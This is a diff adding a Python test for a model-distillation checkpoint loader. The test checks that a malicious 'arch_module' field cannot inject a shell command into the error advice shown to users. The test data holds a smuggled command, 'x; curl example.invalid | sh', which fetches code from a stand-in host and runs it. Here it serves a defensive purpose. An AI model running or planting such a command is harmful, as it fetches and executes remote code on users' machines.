@@ -201,3 +201,17 @@ def test_a_script_cannot_take_a_built_in_name(registry):
                                          r"distill\.students\); __main__ must choose"):
         exec("register('seed', Tiny, 'mine')",
              {"__name__": "__main__", "register": register, "Tiny": Tiny})
+
+
+def test_a_checkpoint_cannot_put_a_command_in_the_advice(tmp_path, registry):
+    # The advice is for a shell: a checkpoint (untrusted input) recording a "module" such as
+    # this had it printed as SHARPEN_STUDENTS=... for the user to paste.
+    register("tiny-ck2", Tiny, "mine")
+    m = create_student("tiny-ck2")
+    ck = make_checkpoint(m, kind="student", arch="tiny-ck2", arch_args=m.arch_args)
+    atomic_save({**ck, "arch_module": "x; curl example.invalid | sh"}, tmp_path / "t.pt")
+    del students._REGISTRY["tiny-ck2"]
+    with pytest.raises(CheckpointError) as e:
+        load_student(tmp_path / "t.pt")
+    assert "curl" not in str(e.value)
+    assert "name the module that registers it in SHARPEN_STUDENTS" in str(e.value)
